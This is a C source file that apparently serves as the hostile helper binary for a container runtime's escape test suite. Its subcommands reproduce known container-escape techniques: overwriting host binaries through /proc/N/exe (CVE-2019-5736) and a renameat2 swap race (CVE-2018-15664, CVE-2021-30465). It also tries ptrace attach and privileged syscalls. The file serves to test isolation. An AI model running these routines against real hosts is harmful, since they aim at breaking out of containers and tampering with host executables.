/* The hostile program of tests/escape.rs, built static at test time and put
 * into the test image as /bin/esc. busybox cannot make these syscalls, so
 * each attack the escape suite needs is one subcommand here:
 *
 *   esc exe-watch MS       for MS ms, open /proc/N/exe of every other process
 *                          (O_PATH, as CVE-2019-5736 does) and print
 *                          "exe PID DEV INO" for each one it could open that
 *                          is not a binary of the container's own; try
 *                          to reopen it for writing and print "wrote PID"
 *   esc syscalls           try each dangerous syscall with harmless arguments
 *                          that the kernel itself would not answer with EPERM;
 *                          print "name=ok" or "name=ERRNO"
 *   esc ptrace PID         attach to PID, print "ptrace=ok" or "ptrace=ERRNO"
 *   esc swap A B MS        renameat2(RENAME_EXCHANGE) A and B in a loop for
 *                          MS ms (CVE-2018-15664, CVE-2021-30465)
 *   esc dev PATH...        print "PATH TYPE MAJOR:MINOR" (c, b, f, l, d, -)
 *   esc cwd                print the working directory and whether its parent
 *                          chain reaches a root other than ours
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/keyctl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static long now_ms(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static int seen[65536];
static dev_t own_dev; /* the container's rootfs: its binaries are its own */

static void try_exe(int pid) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int fd = open(path, O_PATH | O_CLOEXEC);
    if (fd < 0)
        return;
    struct stat st;
    if (fstat(fd, &st) != 0 || st.st_dev == own_dev) {
        close(fd);
        return;
    }
    if (!seen[pid & 65535]) {
        seen[pid & 65535] = 1;
        printf("exe %d %llu %llu\n", pid, (unsigned long long)st.st_dev,
               (unsigned long long)st.st_ino);
        fflush(stdout);
    }
    char again[64];
    snprintf(again, sizeof again, "/proc/self/fd/%d", fd);
    int w = open(again, O_WRONLY | O_CLOEXEC);
    if (w >= 0) {
        if (pwrite(w, "esc", 3, 0) == 3)
            printf("wrote %d\n", pid);
        fflush(stdout);
        close(w);
    }
    close(fd);
}

static int exe_watch(long ms) {
    long end = now_ms() + ms;
    int self = getpid();
    struct stat root;
    if (stat("/", &root) != 0)
        return 1;
    own_dev = root.st_dev;
    while (now_ms() < end) {
        DIR *d = opendir("/proc");
        if (!d)
            return 1;
        struct dirent *e;
        while ((e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid > 0 && pid != self)
                try_exe(pid);
        }
        closedir(d);
    }
    printf("watched\n");
    return 0;
}

static void report(const char *name, long rc) {
    if (rc >= 0)
        printf("%s=ok\n", name);
    else
        printf("%s=%s\n", name, strerrorname_np(errno));
}

/* Runs fn in a child so a syscall that works changes nothing of ours. */
static void in_child(const char *name, long (*fn)(void)) {
    int pipefd[2];
    if (pipe(pipefd) != 0)
        return;
    pid_t pid = fork();
    if (pid == 0) {
        long rc = fn();
        int err = rc < 0 ? errno : 0;
        if (write(pipefd[1], &err, sizeof err) != sizeof err)
            _exit(1);
        _exit(0);
    }
    close(pipefd[1]);
    int err = -1;
    if (read(pipefd[0], &err, sizeof err) != sizeof err)
        err = -1;
    close(pipefd[0]);
    waitpid(pid, NULL, 0);
    if (err == 0)
        printf("%s=ok\n", name);
    else if (err > 0)
        printf("%s=%s\n", name, strerrorname_np(err));
    else
        printf("%s=lost\n", name);
}

static long try_unshare_user(void) { return unshare(CLONE_NEWUSER); }

/* Attaches to PID and lets it go again. */
static int trace(int pid) {
    long rc = ptrace(PTRACE_ATTACH, pid, NULL, NULL);
    report("ptrace", rc);
    if (rc == 0) {
        waitpid(pid, NULL, __WALL);
        ptrace(PTRACE_DETACH, pid, NULL, NULL);
    }
    return 0;
}

static int syscalls(void) {
    /* Harmless questions the kernel answers without any capability. */
    report("keyctl", syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID,
                             KEY_SPEC_SESSION_KEYRING, 0));
    union bpf_attr attr;
    memset(&attr, 0, sizeof attr);
    report("bpf", syscall(SYS_bpf, 0x7fff, &attr, sizeof attr));
    /* An empty target fails its lookup (ENOENT) before the capability check. */
    report("mount", mount("none", "", "tmpfs", 0, NULL));
    in_child("unshare_user", try_unshare_user);
    /* An unknown flag: EINVAL (or ENOSYS) once past the capability check. */
    report("kexec_load", syscall(SYS_kexec_load, 0, 0, NULL, 0x8000UL));
    report("init_module", syscall(SYS_init_module, NULL, 0, ""));
    report("finit_module", syscall(SYS_finit_module, -1, "", 0));
    return 0;
}

static int swap(const char *a, const char *b, long ms) {
    long end = now_ms() + ms;
    long n = 0;
    while (now_ms() < end) {
        for (int i = 0; i < 1000; i++)
            if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) == 0)
                n++;
    }
    printf("swapped %ld\n", n);
    return 0;
}

static int dev(int argc, char **argv) {
    for (int i = 0; i < argc; i++) {
        struct stat st;
        if (lstat(argv[i], &st) != 0) {
            printf("%s - 0:0\n", argv[i]);
            continue;
        }
        char t = S_ISCHR(st.st_mode) ? 'c' : S_ISBLK(st.st_mode) ? 'b'
               : S_ISREG(st.st_mode) ? 'f' : S_ISLNK(st.st_mode) ? 'l'
               : S_ISDIR(st.st_mode) ? 'd' : '?';
        printf("%s %c %u:%u\n", argv[i], t, major(st.st_rdev), minor(st.st_rdev));
    }
    return 0;
}

/* Walks up with ".." from the cwd; it must end at our own root (same dev and
 * inode as "/"), never at another. */
static int cwd(void) {
    char buf[4096];
    printf("getcwd=%s\n", getcwd(buf, sizeof buf) ? buf : strerrorname_np(errno));
    struct stat root, here, up;
    if (stat("/", &root) != 0)
        return 1;
    int fd = open(".", O_PATH | O_DIRECTORY);
    for (int i = 0; i < 256 && fd >= 0; i++) {
        fstat(fd, &here);
        int parent = openat(fd, "..", O_PATH | O_DIRECTORY);
        if (parent < 0)
            break;
        fstat(parent, &up);
        close(fd);
        fd = parent;
        if (here.st_dev == up.st_dev && here.st_ino == up.st_ino)
            break;
    }
    printf("top=%s\n", here.st_dev == root.st_dev && here.st_ino == root.st_ino ? "ours" : "foreign");
    return 0;
}

int main(int argc, char **argv) {
    if (argc >= 3 && strcmp(argv[1], "exe-watch") == 0)
        return exe_watch(atol(argv[2]));
    if (argc >= 2 && strcmp(argv[1], "syscalls") == 0)
        return syscalls();
    if (argc >= 3 && strcmp(argv[1], "ptrace") == 0)
        return trace(atoi(argv[2]));
    if (argc >= 5 && strcmp(argv[1], "swap") == 0)
        return swap(argv[2], argv[3], atol(argv[4]));
    if (argc >= 2 && strcmp(argv[1], "dev") == 0)
        return dev(argc - 2, argv + 2);
    if (argc >= 2 && strcmp(argv[1], "cwd") == 0)
        return cwd();
    fprintf(stderr, "usage: esc exe-watch MS | syscalls | ptrace PID | swap A B MS | dev PATH... | cwd\n");
    return 2;
}
